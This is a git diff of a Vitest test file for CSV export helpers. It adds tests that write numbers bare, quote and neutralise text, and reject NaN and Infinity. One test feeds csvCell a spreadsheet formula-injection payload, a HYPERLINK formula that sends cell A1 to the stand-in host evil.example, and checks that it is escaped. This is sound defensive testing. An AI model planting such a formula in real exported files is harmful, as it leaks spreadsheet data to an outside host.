@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
-import { csvCell, csvRow } from './csv';
+import { csvCell, csvRow, csvValue } from './csv';
 
-describe('audit CSV cells', () => {
+describe('CSV cells', () => {
 	it('turns a formula payload into text a spreadsheet will not run', () => {
 		expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"');
 	});
@@ -24,5 +24,21 @@ describe('audit CSV cells', () => {
 
 	it('ends each row with CRLF', () => {
 		expect(csvRow(['a', 'b,c', null])).toBe('"a","b,c",""\r\n');
+	});
+});
+
+describe('CSV values', () => {
+	it('writes numbers bare so a spreadsheet keeps them numbers, negatives and decimals included', () => {
+		expect([12, 0, -3, 2.5].map(csvValue)).toEqual(['12', '0', '-3', '2.5']);
+	});
+
+	it('writes text as a neutralised, quoted cell', () => {
+		expect(csvValue('-3')).toBe('"\'-3"');
+		expect(csvValue('<5')).toBe('"<5"');
+	});
+
+	it('refuses a number a spreadsheet could not read', () => {
+		expect(() => csvValue(Number.NaN)).toThrow();
+		expect(() => csvValue(Infinity)).toThrow();
 	});
 });
